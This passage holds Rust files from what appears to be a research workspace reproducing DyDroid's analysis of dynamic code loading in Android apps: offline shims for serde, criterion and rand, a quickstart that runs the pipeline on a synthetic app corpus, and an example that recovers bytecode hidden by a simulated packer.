                           other => ::std::result::Result::Err(serde::Error::msg(\
                             format!(\"unknown variant `{{other}}` for {name}\"))),\
                         }}\
                       }},\
                       _ => ::std::result::Result::Err(serde::Error::msg(\
                         format!(\"expected {name} variant, found {{v:?}}\"))),\
                     }}\
                   }}\
                 }}"
            )
            .unwrap();
        }
    }
    out.parse().expect("serde derive shim: generated code")
}
