//! Offline shim for `criterion`: runs each benchmark closure a small
//! fixed number of iterations and prints mean wall-clock time per
//! iteration. No warm-up, outlier analysis, or HTML reports — the goal
//! is that `cargo bench` compiles, runs every benchmark to completion
//! (so their embedded assertions still execute), and prints comparable
//! numbers.

#![forbid(unsafe_code)]

use std::fmt::Display;
use std::time::{Duration, Instant};

/// Re-exported optimization barrier.
pub fn black_box<T>(x: T) -> T {
    std::hint::black_box(x)
}

/// Unit of work per iteration, used only for the printed label.
#[derive(Debug, Clone, Copy)]
pub enum Throughput {
    Elements(u64),
    Bytes(u64),
}

/// A benchmark identifier within a group.
#[derive(Debug, Clone)]
pub struct BenchmarkId {
    id: String,
}

impl BenchmarkId {
    pub fn from_parameter<P: Display>(parameter: P) -> Self {
        BenchmarkId {
            id: parameter.to_string(),
        }
    }

    pub fn new<S: Display, P: Display>(function_name: S, parameter: P) -> Self {
        BenchmarkId {
            id: format!("{function_name}/{parameter}"),
        }
    }
}

impl From<&str> for BenchmarkId {
    fn from(id: &str) -> Self {
        BenchmarkId { id: id.to_string() }
    }
}

/// Times one closure.
pub struct Bencher {
    iterations: u64,
    elapsed: Duration,
}

impl Bencher {
    /// Runs `routine` for the configured iteration count, timing it.
    pub fn iter<R, F: FnMut() -> R>(&mut self, mut routine: F) {
        let start = Instant::now();
        for _ in 0..self.iterations {
            black_box(routine());
        }
        self.elapsed = start.elapsed();
    }
}

/// A named group of related benchmarks.
pub struct BenchmarkGroup<'a> {
    criterion: &'a mut Criterion,
    name: String,
    sample_size: u64,
    throughput: Option<Throughput>,
}

impl<'a> BenchmarkGroup<'a> {
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        // Criterion's sample_size counts statistical samples; here it
        // directly bounds iterations, clamped to keep runs quick.
        self.sample_size = (n as u64).clamp(1, 50);
        self
    }

    pub fn throughput(&mut self, throughput: Throughput) -> &mut Self {
        self.throughput = Some(throughput);
        self
    }

    pub fn bench_function<I, F>(&mut self, id: I, mut f: F) -> &mut Self
    where
        I: Into<BenchmarkId>,
        F: FnMut(&mut Bencher),
    {
        let id = id.into();
        let mut bencher = Bencher {
            iterations: self.sample_size,
            elapsed: Duration::ZERO,
        };
        f(&mut bencher);
        self.report(&id, &bencher);
        self
    }

    pub fn bench_with_input<I, D, F>(&mut self, id: I, input: &D, mut f: F) -> &mut Self
    where
        I: Into<BenchmarkId>,
        D: ?Sized,
        F: FnMut(&mut Bencher, &D),
    {
        let id = id.into();
        let mut bencher = Bencher {
            iterations: self.sample_size,
            elapsed: Duration::ZERO,
        };
        f(&mut bencher, input);
        self.report(&id, &bencher);
        self
    }

    pub fn finish(&mut self) {}

    fn report(&self, id: &BenchmarkId, bencher: &Bencher) {
        let per_iter = bencher.elapsed.as_secs_f64() / bencher.iterations.max(1) as f64;
        let unit = match self.throughput {
            Some(Throughput::Elements(n)) => format!(" ({n} elems/iter)"),
            Some(Throughput::Bytes(n)) => format!(" ({n} bytes/iter)"),
            None => String::new(),
        };
        println!(
            "bench {}/{}: {:>12.3} ms/iter over {} iters{}",
            self.name,
            id.id,
            per_iter * 1e3,
            bencher.iterations,
            unit
        );
        let _ = &self.criterion;
    }
}

/// The harness entry point handed to each benchmark function.
#[derive(Default)]
pub struct Criterion {}

impl Criterion {
    pub fn benchmark_group<S: Into<String>>(&mut self, name: S) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            criterion: self,
            name: name.into(),
            sample_size: 10,
            throughput: None,
        }
    }

    /// Top-level single benchmark (not used by this workspace's benches,
    /// kept for API familiarity).
    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, id: &str, f: F) -> &mut Self {
        self.benchmark_group(id.to_string()).bench_function("_", f);
        self
    }
}

/// Declares a group-runner function from a list of benchmark functions.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        fn $name() {
            let mut criterion = $crate::Criterion::default();
            $( $target(&mut criterion); )+
        }
    };
}

/// Declares `main` running the listed groups.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn group_runs_benches() {
        let mut c = Criterion::default();
        let mut ran = 0u64;
        {
            let mut group = c.benchmark_group("g");
            group.sample_size(3);
            group.throughput(Throughput::Elements(7));
            group.bench_function("f", |b| b.iter(|| ran += 1));
            group.bench_with_input(BenchmarkId::from_parameter(5), &5u32, |b, x| {
                b.iter(|| black_box(*x * 2))
            });
            group.finish();
        }
        assert!(ran > 0);
    }
}
