//! Offline shim for `serde`: a direct-to-value serialization model.
//!
//! Instead of upstream's visitor architecture, `Serialize` renders a
//! [`Value`] tree and `Deserialize` reads one back. `serde_json` (also
//! vendored) adds the text encoding and parsing on top. The derive
//! macros in the vendored `serde_derive` target exactly this trait pair.
//!
//! Deliberate simplifications, safe for this workspace:
//! - maps and sets serialize as arrays (`[[k, v], ...]` / `[v, ...]`),
//!   with map entries sorted by encoded key for deterministic output;
//! - `#[serde(...)]` attributes and generic serialized types are
//!   unsupported (the workspace uses neither).

#![forbid(unsafe_code)]

use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet};
use std::fmt;
use std::hash::Hash;

#[cfg(feature = "derive")]
pub use serde_derive::{Deserialize, Serialize};

/// A JSON number, kept in its native representation so 64-bit integers
/// (hashes, seeds) round-trip exactly instead of through `f64`.
#[derive(Debug, Clone, Copy)]
pub enum Num {
    /// A negative integer.
    I(i64),
    /// A non-negative integer.
    U(u64),
    /// A float (always printed with a `.` or exponent).
    F(f64),
}

impl Num {
    /// Numeric value as `f64` (lossy above 2^53).
    pub fn as_f64(&self) -> f64 {
        match *self {
            Num::I(v) => v as f64,
            Num::U(v) => v as f64,
            Num::F(v) => v,
        }
    }

    /// Exact `u64` value if this is a non-negative integer.
    pub fn as_u64(&self) -> Option<u64> {
        match *self {
            Num::I(v) if v >= 0 => Some(v as u64),
            Num::I(_) => None,
            Num::U(v) => Some(v),
            Num::F(v) if v >= 0.0 && v.fract() == 0.0 && v < 9.0e15 => Some(v as u64),
            Num::F(_) => None,
        }
    }

    /// Exact `i64` value if this is an integer in range.
    pub fn as_i64(&self) -> Option<i64> {
        match *self {
            Num::I(v) => Some(v),
            Num::U(v) => i64::try_from(v).ok(),
            Num::F(v) if v.fract() == 0.0 && v.abs() < 9.0e15 => Some(v as i64),
            Num::F(_) => None,
        }
    }
}

impl PartialEq for Num {
    /// Numeric equality across representations: `U(5) == I(5) == F(5.0)`.
    fn eq(&self, other: &Self) -> bool {
        match (self.as_i64(), other.as_i64()) {
            (Some(a), Some(b)) => return a == b,
            (None, None) => {}
            _ => match (self.as_u64(), other.as_u64()) {
                (Some(a), Some(b)) => return a == b,
                (None, None) => {}
                _ => return false,
            },
        }
        self.as_f64() == other.as_f64()
    }
}

/// A JSON document tree. Object keys keep insertion order.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    Null,
    Bool(bool),
    Num(Num),
    Str(String),
    Array(Vec<Value>),
    Object(Vec<(String, Value)>),
}

static NULL: Value = Value::Null;

impl Value {
    pub fn is_null(&self) -> bool {
        matches!(self, Value::Null)
    }

    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Value::Bool(b) => Some(*b),
            _ => None,
        }
    }

    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Value::Num(n) => Some(n.as_f64()),
            _ => None,
        }
    }

    pub fn as_u64(&self) -> Option<u64> {
        match self {
            Value::Num(n) => n.as_u64(),
            _ => None,
        }
    }

    pub fn as_i64(&self) -> Option<i64> {
        match self {
            Value::Num(n) => n.as_i64(),
            _ => None,
        }
    }

    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    pub fn as_array(&self) -> Option<&Vec<Value>> {
        match self {
            Value::Array(items) => Some(items),
            _ => None,
        }
    }

    pub fn as_object(&self) -> Option<&Vec<(String, Value)>> {
        match self {
            Value::Object(pairs) => Some(pairs),
            _ => None,
        }
    }

    /// Object member lookup; `None` for non-objects and missing keys.
    pub fn get(&self, key: &str) -> Option<&Value> {
        self.as_object()
            .and_then(|pairs| pairs.iter().find(|(k, _)| k == key).map(|(_, v)| v))
    }

    /// Compact single-line JSON encoding.
    pub fn to_compact_string(&self) -> String {
        let mut out = String::new();
        self.write(&mut out, None, 0);
        out
    }

    /// Pretty-printed JSON with two-space indentation.
    pub fn to_pretty_string(&self) -> String {
        let mut out = String::new();
        self.write(&mut out, Some(2), 0);
        out
    }

    fn write(&self, out: &mut String, indent: Option<usize>, level: usize) {
        match self {
            Value::Null => out.push_str("null"),
            Value::Bool(true) => out.push_str("true"),
            Value::Bool(false) => out.push_str("false"),
            Value::Num(Num::I(v)) => {
                out.push_str(&v.to_string());
            }
            Value::Num(Num::U(v)) => {
                out.push_str(&v.to_string());
            }
            Value::Num(Num::F(v)) => {
                if v.is_finite() {
                    // `{:?}` always keeps a `.` or exponent, so floats stay
                    // floats across a round trip.
                    out.push_str(&format!("{v:?}"));
                } else {
                    out.push_str("null");
                }
            }
            Value::Str(s) => write_json_string(out, s),
            Value::Array(items) => {
                if items.is_empty() {
                    out.push_str("[]");
                    return;
                }
                out.push('[');
                for (i, item) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    newline_indent(out, indent, level + 1);
                    item.write(out, indent, level + 1);
                }
                newline_indent(out, indent, level);
                out.push(']');
            }
            Value::Object(pairs) => {
                if pairs.is_empty() {
                    out.push_str("{}");
                    return;
                }
                out.push('{');
                for (i, (key, value)) in pairs.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    newline_indent(out, indent, level + 1);
                    write_json_string(out, key);
                    out.push(':');
                    if indent.is_some() {
                        out.push(' ');
                    }
                    value.write(out, indent, level + 1);
                }
                newline_indent(out, indent, level);
                out.push('}');
            }
        }
    }
}

fn newline_indent(out: &mut String, indent: Option<usize>, level: usize) {
    if let Some(width) = indent {
        out.push('\n');
        for _ in 0..width * level {
            out.push(' ');
        }
    }
}

fn write_json_string(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

impl std::ops::Index<&str> for Value {
    type Output = Value;

    /// Member access that never panics: missing keys and non-objects
    /// index to `Null`, matching upstream `serde_json`.
    fn index(&self, key: &str) -> &Value {
        self.get(key).unwrap_or(&NULL)
    }
}

impl std::ops::Index<usize> for Value {
    type Output = Value;

    fn index(&self, idx: usize) -> &Value {
        self.as_array().and_then(|a| a.get(idx)).unwrap_or(&NULL)
    }
}

/// Serialization/deserialization error.
#[derive(Debug, Clone)]
pub struct Error {
    msg: String,
}

impl Error {
    pub fn msg(msg: impl Into<String>) -> Self {
        Error { msg: msg.into() }
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.msg)
    }
}

impl std::error::Error for Error {}

/// Renders `self` as a [`Value`] tree.
pub trait Serialize {
    fn to_json(&self) -> Value;
}

/// Reconstructs `Self` from a [`Value`] tree.
pub trait Deserialize: Sized {
    fn from_json(v: &Value) -> Result<Self, Error>;
}

// ---- derive support helpers (referenced by generated code) ----

/// Struct-field lookup used by derived `from_json`; missing keys read as
/// `Null` so `Option` fields tolerate absent members.
pub fn __field<'a>(v: &'a Value, name: &str) -> &'a Value {
    match v.get(name) {
        Some(member) => member,
        None => &NULL,
    }
}

/// Fixed-length sequence access used by derived tuple decoding.
pub fn __seq(v: &Value, len: usize) -> Result<&Vec<Value>, Error> {
    match v.as_array() {
        Some(items) if items.len() == len => Ok(items),
        Some(items) => Err(Error::msg(format!(
            "expected sequence of {len}, found {}",
            items.len()
        ))),
        None => Err(Error::msg(format!("expected sequence of {len}"))),
    }
}

// ---- primitive impls ----

impl Serialize for bool {
    fn to_json(&self) -> Value {
        Value::Bool(*self)
    }
}

impl Deserialize for bool {
    fn from_json(v: &Value) -> Result<Self, Error> {
        v.as_bool()
            .ok_or_else(|| Error::msg(format!("expected bool, found {v:?}")))
    }
}

macro_rules! impl_unsigned {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_json(&self) -> Value {
                Value::Num(Num::U(*self as u64))
            }
        }
        impl Deserialize for $t {
            fn from_json(v: &Value) -> Result<Self, Error> {
                let raw = v
                    .as_u64()
                    .ok_or_else(|| Error::msg(format!(
                        "expected {}, found {v:?}", stringify!($t))))?;
                <$t>::try_from(raw).map_err(|_| Error::msg(format!(
                    "{raw} out of range for {}", stringify!($t))))
            }
        }
    )*};
}

macro_rules! impl_signed {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_json(&self) -> Value {
                let v = *self as i64;
                if v >= 0 {
                    Value::Num(Num::U(v as u64))
                } else {
                    Value::Num(Num::I(v))
                }
            }
        }
        impl Deserialize for $t {
            fn from_json(v: &Value) -> Result<Self, Error> {
                let raw = v
                    .as_i64()
                    .ok_or_else(|| Error::msg(format!(
                        "expected {}, found {v:?}", stringify!($t))))?;
                <$t>::try_from(raw).map_err(|_| Error::msg(format!(
                    "{raw} out of range for {}", stringify!($t))))
            }
        }
    )*};
}

impl_unsigned!(u8, u16, u32, u64, usize);
impl_signed!(i8, i16, i32, i64, isize);

impl Serialize for f64 {
    fn to_json(&self) -> Value {
        Value::Num(Num::F(*self))
    }
}

impl Deserialize for f64 {
    fn from_json(v: &Value) -> Result<Self, Error> {
        v.as_f64()
            .ok_or_else(|| Error::msg(format!("expected f64, found {v:?}")))
    }
}

impl Serialize for f32 {
    fn to_json(&self) -> Value {
        Value::Num(Num::F(*self as f64))
    }
}

impl Deserialize for f32 {
    fn from_json(v: &Value) -> Result<Self, Error> {
        Ok(f64::from_json(v)? as f32)
    }
}

impl Serialize for str {
    fn to_json(&self) -> Value {
        Value::Str(self.to_string())
    }
}

impl Serialize for String {
    fn to_json(&self) -> Value {
        Value::Str(self.clone())
    }
}

impl Deserialize for String {
    fn from_json(v: &Value) -> Result<Self, Error> {
        v.as_str()
            .map(str::to_string)
            .ok_or_else(|| Error::msg(format!("expected string, found {v:?}")))
    }
}

impl Serialize for char {
    fn to_json(&self) -> Value {
        Value::Str(self.to_string())
    }
}

impl Deserialize for char {
    fn from_json(v: &Value) -> Result<Self, Error> {
        let s = v
            .as_str()
            .ok_or_else(|| Error::msg(format!("expected char, found {v:?}")))?;
        let mut chars = s.chars();
        match (chars.next(), chars.next()) {
            (Some(c), None) => Ok(c),
            _ => Err(Error::msg(format!("expected single char, found {s:?}"))),
        }
    }
}

impl<T: Serialize + ?Sized> Serialize for &T {
    fn to_json(&self) -> Value {
        (**self).to_json()
    }
}

impl<T: Serialize> Serialize for Box<T> {
    fn to_json(&self) -> Value {
        (**self).to_json()
    }
}

impl<T: Deserialize> Deserialize for Box<T> {
    fn from_json(v: &Value) -> Result<Self, Error> {
        Ok(Box::new(T::from_json(v)?))
    }
}

impl Serialize for Value {
    fn to_json(&self) -> Value {
        self.clone()
    }
}

impl Deserialize for Value {
    fn from_json(v: &Value) -> Result<Self, Error> {
        Ok(v.clone())
    }
}

// ---- containers ----

impl<T: Serialize> Serialize for Option<T> {
    fn to_json(&self) -> Value {
        match self {
            Some(inner) => inner.to_json(),
            None => Value::Null,
        }
    }
}

impl<T: Deserialize> Deserialize for Option<T> {
    fn from_json(v: &Value) -> Result<Self, Error> {
        match v {
            Value::Null => Ok(None),
            other => Ok(Some(T::from_json(other)?)),
        }
    }
}

impl<T: Serialize> Serialize for Vec<T> {
    fn to_json(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_json).collect())
    }
}

impl<T: Deserialize> Deserialize for Vec<T> {
    fn from_json(v: &Value) -> Result<Self, Error> {
        v.as_array()
            .ok_or_else(|| Error::msg(format!("expected array, found {v:?}")))?
            .iter()
            .map(T::from_json)
            .collect()
    }
}

impl<T: Serialize> Serialize for [T] {
    fn to_json(&self) -> Value {
        Value::Array(self.iter().map(Serialize::to_json).collect())
    }
}

macro_rules! impl_tuple {
    ($(($($name:ident : $idx:tt),+))*) => {$(
        impl<$($name: Serialize),+> Serialize for ($($name,)+) {
            fn to_json(&self) -> Value {
                Value::Array(vec![$(self.$idx.to_json()),+])
            }
        }
        impl<$($name: Deserialize),+> Deserialize for ($($name,)+) {
            fn from_json(v: &Value) -> Result<Self, Error> {
                let len = 0usize $(+ { let _ = $idx; 1 })+;
                let seq = __seq(v, len)?;
                Ok(($($name::from_json(&seq[$idx])?,)+))
            }
        }
    )*};
}

impl_tuple! {
    (A: 0)
    (A: 0, B: 1)
    (A: 0, B: 1, C: 2)
    (A: 0, B: 1, C: 2, D: 3)
}

/// Shared map encoding: `[[key, value], ...]`, sorted by the key's
/// encoded form so hash-map iteration order never leaks into output.
fn map_to_json<'a, K, V, I>(entries: I) -> Value
where
    K: Serialize + 'a,
    V: Serialize + 'a,
    I: Iterator<Item = (&'a K, &'a V)>,
{
    let mut pairs: Vec<(String, Value)> = entries
        .map(|(k, v)| {
            let key = k.to_json();
            (
                key.to_compact_string(),
                Value::Array(vec![key, v.to_json()]),
            )
        })
        .collect();
    pairs.sort_by(|a, b| a.0.cmp(&b.0));
    Value::Array(pairs.into_iter().map(|(_, entry)| entry).collect())
}

fn map_from_json<K: Deserialize, V: Deserialize>(v: &Value) -> Result<Vec<(K, V)>, Error> {
    v.as_array()
        .ok_or_else(|| Error::msg(format!("expected map entries, found {v:?}")))?
        .iter()
        .map(|entry| {
            let pair = __seq(entry, 2)?;
            Ok((K::from_json(&pair[0])?, V::from_json(&pair[1])?))
        })
        .collect()
}

impl<K: Serialize, V: Serialize, S> Serialize for HashMap<K, V, S> {
    fn to_json(&self) -> Value {
        map_to_json(self.iter())
    }
}

impl<K, V, S> Deserialize for HashMap<K, V, S>
where
    K: Deserialize + Eq + Hash,
    V: Deserialize,
    S: std::hash::BuildHasher + Default,
{
    fn from_json(v: &Value) -> Result<Self, Error> {
        Ok(map_from_json::<K, V>(v)?.into_iter().collect())
    }
}

impl<K: Serialize, V: Serialize> Serialize for BTreeMap<K, V> {
    fn to_json(&self) -> Value {
        map_to_json(self.iter())
    }
}

impl<K: Deserialize + Ord, V: Deserialize> Deserialize for BTreeMap<K, V> {
    fn from_json(v: &Value) -> Result<Self, Error> {
        Ok(map_from_json::<K, V>(v)?.into_iter().collect())
    }
}

fn set_to_json<'a, T: Serialize + 'a>(items: impl Iterator<Item = &'a T>) -> Value {
    let mut encoded: Vec<(String, Value)> = items
        .map(|item| {
            let v = item.to_json();
            (v.to_compact_string(), v)
        })
        .collect();
    encoded.sort_by(|a, b| a.0.cmp(&b.0));
    Value::Array(encoded.into_iter().map(|(_, v)| v).collect())
}

impl<T: Serialize, S> Serialize for HashSet<T, S> {
    fn to_json(&self) -> Value {
        set_to_json(self.iter())
    }
}

impl<T, S> Deserialize for HashSet<T, S>
where
    T: Deserialize + Eq + Hash,
    S: std::hash::BuildHasher + Default,
{
    fn from_json(v: &Value) -> Result<Self, Error> {
        Ok(Vec::<T>::from_json(v)?.into_iter().collect())
    }
}

impl<T: Serialize> Serialize for BTreeSet<T> {
    fn to_json(&self) -> Value {
        set_to_json(self.iter())
    }
}

impl<T: Deserialize + Ord> Deserialize for BTreeSet<T> {
    fn from_json(v: &Value) -> Result<Self, Error> {
        Ok(Vec::<T>::from_json(v)?.into_iter().collect())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_render_and_compare() {
        assert_eq!(5u32.to_json().to_compact_string(), "5");
        assert_eq!((-7i64).to_json().to_compact_string(), "-7");
        assert_eq!(2.5f64.to_json().to_compact_string(), "2.5");
        assert_eq!(5.0f64.to_json().to_compact_string(), "5.0");
        assert_eq!(Num::U(5), Num::I(5));
        assert_eq!(Num::F(5.0), Num::U(5));
        let big = u64::MAX - 3;
        assert_eq!(big.to_json().to_compact_string(), big.to_string());
    }

    #[test]
    fn string_escaping() {
        let v = "a\"b\\c\nd".to_json();
        assert_eq!(v.to_compact_string(), r#""a\"b\\c\nd""#);
    }

    #[test]
    fn map_output_is_sorted_and_round_trips() {
        let mut m = HashMap::new();
        m.insert("zulu".to_string(), 1u32);
        m.insert("alpha".to_string(), 2u32);
        let v = m.to_json();
        let text = v.to_compact_string();
        assert!(text.find("alpha").unwrap() < text.find("zulu").unwrap());
        let back: HashMap<String, u32> = Deserialize::from_json(&v).unwrap();
        assert_eq!(back, m);
    }

    #[test]
    fn option_and_missing_fields() {
        assert_eq!(Option::<u32>::from_json(&Value::Null).unwrap(), None);
        let obj = Value::Object(vec![]);
        assert!(__field(&obj, "absent").is_null());
        assert_eq!(obj["absent"], Value::Null);
    }
}
