//! Offline shim for the `rand` crate: the `RngCore`/`Rng`/`SeedableRng`
//! trait skeleton plus uniform range and Bernoulli sampling — the exact
//! surface the monkey and the corpus planner use. Distribution quality is
//! adequate (64-bit uniform source, 53-bit float mantissa); there is no
//! claim of statistical equivalence with upstream `rand`, only
//! determinism given a seed.

#![forbid(unsafe_code)]

/// A source of random 64-bit words.
pub trait RngCore {
    /// The next 64 uniform random bits.
    fn next_u64(&mut self) -> u64;

    /// The next 32 uniform random bits.
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }
}

/// Types uniformly samplable from an interval. The single generic
/// `SampleRange` impl below is what lets float literals in
/// `gen_range(-0.35..0.35)` infer as `f64`, matching upstream rand.
pub trait SampleUniform: Sized {
    /// Uniform draw from `[low, high)`, or `[low, high]` when
    /// `inclusive`.
    fn sample_in<R: RngCore + ?Sized>(
        rng: &mut R,
        low: &Self,
        high: &Self,
        inclusive: bool,
    ) -> Self;
}

macro_rules! impl_sample_uniform_int {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn sample_in<R: RngCore + ?Sized>(
                rng: &mut R,
                low: &Self,
                high: &Self,
                inclusive: bool,
            ) -> Self {
                let (lo, hi) = (*low as i128, *high as i128);
                let span = (hi - lo + if inclusive { 1 } else { 0 }) as u128;
                assert!(span > 0, "empty gen_range");
                let v = (rng.next_u64() as u128) % span;
                (lo + v as i128) as $t
            }
        }
    )*};
}

impl_sample_uniform_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

/// A uniform double in `[0, 1)` with 53 random mantissa bits.
fn unit_f64<R: RngCore + ?Sized>(rng: &mut R) -> f64 {
    (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
}

impl SampleUniform for f64 {
    fn sample_in<R: RngCore + ?Sized>(
        rng: &mut R,
        low: &Self,
        high: &Self,
        _inclusive: bool,
    ) -> Self {
        assert!(low < high, "empty gen_range");
        low + unit_f64(rng) * (high - low)
    }
}

impl SampleUniform for f32 {
    fn sample_in<R: RngCore + ?Sized>(
        rng: &mut R,
        low: &Self,
        high: &Self,
        _inclusive: bool,
    ) -> Self {
        assert!(low < high, "empty gen_range");
        low + (unit_f64(rng) as f32) * (high - low)
    }
}

/// A range samplable by [`Rng::gen_range`].
pub trait SampleRange<T> {
    /// Draws one value.
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

impl<T: SampleUniform> SampleRange<T> for std::ops::Range<T> {
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        T::sample_in(rng, &self.start, &self.end, false)
    }
}

impl<T: SampleUniform> SampleRange<T> for std::ops::RangeInclusive<T> {
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        T::sample_in(rng, self.start(), self.end(), true)
    }
}

/// Convenience sampling methods over any [`RngCore`].
pub trait Rng: RngCore {
    /// Uniform draw from `range`.
    fn gen_range<T, S: SampleRange<T>>(&mut self, range: S) -> T
    where
        Self: Sized,
    {
        range.sample(self)
    }

    /// Bernoulli draw: `true` with probability `p`.
    fn gen_bool(&mut self, p: f64) -> bool
    where
        Self: Sized,
    {
        unit_f64(self) < p
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

/// RNGs constructible from a seed.
pub trait SeedableRng: Sized {
    /// Builds the generator from a 64-bit seed, expanding it to the
    /// generator's full state deterministically.
    fn seed_from_u64(seed: u64) -> Self;
}

/// The splitmix64 sequence — used as a key-schedule/state expander.
pub fn splitmix64(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

#[cfg(test)]
mod tests {
    use super::*;

    struct Counter(u64);
    impl RngCore for Counter {
        fn next_u64(&mut self) -> u64 {
            let mut s = self.0;
            self.0 += 1;
            splitmix64(&mut s)
        }
    }

    #[test]
    fn ranges_stay_in_bounds() {
        let mut rng = Counter(0);
        for _ in 0..1000 {
            let v = rng.gen_range(3..17usize);
            assert!((3..17).contains(&v));
            let f = rng.gen_range(-0.35..0.35);
            assert!((-0.35..0.35).contains(&f));
            let b = rng.gen_range(1u8..=255);
            assert!(b >= 1);
        }
    }

    #[test]
    fn float_literals_infer_as_f64() {
        let mut rng = Counter(3);
        let x = 1.0 + rng.gen_range(-0.5..0.5);
        assert!(x.clamp(0.0, 2.0) == x);
    }

    #[test]
    fn gen_bool_extremes() {
        let mut rng = Counter(7);
        assert!(!rng.gen_bool(0.0));
        assert!(rng.gen_bool(1.0));
    }
}
