//! Quickstart: generate a small synthetic market, run the DyDroid
//! pipeline over it, and print the headline measurements.
//!
//! ```text
//! cargo run --release --example quickstart
//! ```

use dydroid::{Pipeline, PipelineConfig};
use dydroid_workload::{generate, CorpusSpec};

fn main() {
    // 1. A 1%-scale synthetic Google Play corpus (~590 apps), fully
    //    deterministic in the seed.
    let spec = CorpusSpec {
        scale: 0.01,
        seed: 0x0D1D_501D,
    };
    println!("Generating corpus at scale {} ...", spec.scale);
    let corpus = generate(&spec);
    println!("  {} apps generated\n", corpus.len());

    // 2. The full hybrid pipeline: decompile → filter → Monkey-driven
    //    dynamic analysis with DCL interception → static analysis of the
    //    intercepted code.
    let pipeline = Pipeline::new(PipelineConfig::default());
    let report = pipeline.run(&corpus);

    // 3. The headline tables.
    println!("{}", report.table2().render());
    println!("{}", report.table6().render());
    println!("{}", report.table7().render());

    // 4. A couple of summary facts, the way the paper's abstract puts them.
    let t5 = report.table5();
    println!(
        "{} apps violate the Google Play content policy by executing remotely fetched code.",
        t5.apps.len()
    );
    let t9 = report.table9();
    println!(
        "{} apps are vulnerable to code injection through writable DCL locations.",
        t9.dex_external.len() + t9.native_foreign.len()
    );
    let intercepted = report
        .records()
        .iter()
        .filter(|r| r.dex_intercepted() || r.native_intercepted())
        .count();
    println!("{intercepted} apps had their dynamically loaded code intercepted.");
}
