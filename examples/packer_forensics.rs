//! Packer forensics: what a Bangcle/Ijiami-style packed app looks like to
//! static analysis, and how DyDroid's interception recovers the hidden
//! bytecode anyway.
//!
//! ```text
//! cargo run --release --example packer_forensics
//! ```

use dydroid_analysis::{decompiler, obfuscation};
use dydroid_avm::{Device, DeviceConfig};
use dydroid_dex::{smali, Component, DexFile, Manifest};
use dydroid_workload::packer;

fn main() {
    // Build a victim app the way a developer would...
    let pkg = "com.indie.smarttv";
    let real_main = format!("{pkg}.RemoteControlActivity");
    let mut manifest = Manifest::new(pkg);
    manifest
        .components
        .push(Component::main_activity(&real_main));
    let original = {
        let mut b = dydroid_dex::builder::DexBuilder::new();
        let c = b.class(&real_main, "android.app.Activity");
        c.default_constructor();
        let m = c.method("onCreate", "()V", dydroid_dex::AccessFlags::PUBLIC);
        m.registers(4);
        m.const_str(1, "pairing with television");
        m.ret_void();
        b.build()
    };

    // ...and run it through the packer, as the hardening vendors do.
    let packed = packer::pack(&manifest, &original, &real_main);
    println!("=== Static view of the packed APK ===");
    let app = decompiler::decompile(&packed.to_bytes()).expect("container decompiles");
    println!(
        "manifest declares main activity: {}",
        app.manifest.main_activity().unwrap().class
    );
    println!(
        "decompiled classes: {:?}",
        app.classes
            .classes()
            .iter()
            .map(|c| c.name.as_str())
            .collect::<Vec<_>>()
    );
    println!(
        "declared component present in bytecode? {}",
        obfuscation::components_all_present(&app.manifest, &app.classes)
    );
    println!(
        "encrypted asset parses as DEX? {}",
        DexFile::parse(app.apk.entry("assets/enc.bin").unwrap()).is_ok()
    );
    println!(
        "three-rule DEX-encryption detector fires? {}\n",
        obfuscation::detect_dex_encryption(&app)
    );

    // Dynamic phase: run the packed app on the instrumented device.
    println!("=== Dynamic recovery ===");
    let mut device = Device::new(DeviceConfig::default());
    device.install(&packed.to_bytes()).expect("installs fine");
    let proc = device.launch(pkg).expect("launches");
    println!("app alive after launch: {}", proc.alive);
    for event in device.log.dcl_events() {
        println!(
            "DCL event: kind={:?} path={} call-site={}",
            event.kind, event.path, event.call_site_class
        );
    }

    // The interception hook captured the *decrypted* payload.
    for binary in device.hooks.intercepted() {
        if let Ok(dex) = DexFile::parse(&binary.data) {
            println!(
                "\nrecovered {} class(es) from {}:",
                dex.classes().len(),
                binary.path
            );
            println!("{}", smali::disassemble(&dex));
        }
    }
